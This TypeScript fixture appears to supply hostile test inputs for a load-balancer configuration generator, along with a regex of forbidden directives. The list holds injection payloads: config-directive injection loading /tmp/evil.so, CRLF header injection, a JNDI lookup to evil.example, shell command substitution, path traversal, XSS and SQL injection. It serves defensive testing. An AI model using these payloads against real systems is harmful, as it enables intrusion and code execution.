/** Text that ends a token, a line, a block or a command somewhere, and what would be loaded then. */
export const HOSTILE: readonly string[] = [
  'x;\nload_module /proc/self/fd/7;\n',
  'x"; }\n}\nssl_engine /tmp/evil.so;\nhttp { server {',
  'x\r\nHost: evil.example\r\n\r\n',
  'x\0y',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what others would expand.
  '${jndi:ldap://evil.example}',
  '$(touch /tmp/x)',
  '`id`',
  'x;set maxconn global 7',
  '{{ .Values }}',
  '../../etc/passwd',
  '\u202eevil',
  '\ud800',
  'a'.repeat(100_000),
  '(a+)+'.repeat(300),
  '__proto__',
  '%00%0a%0d',
  '<script>alert(1)</script>',
  "' or 1=1 --",
]

/** What of the text must not be in a load balancer, however it is written there. */
export const DIRECTIVES = /load_module|ssl_engine|[\0\r\n]|\\u0000|\\[rn]/
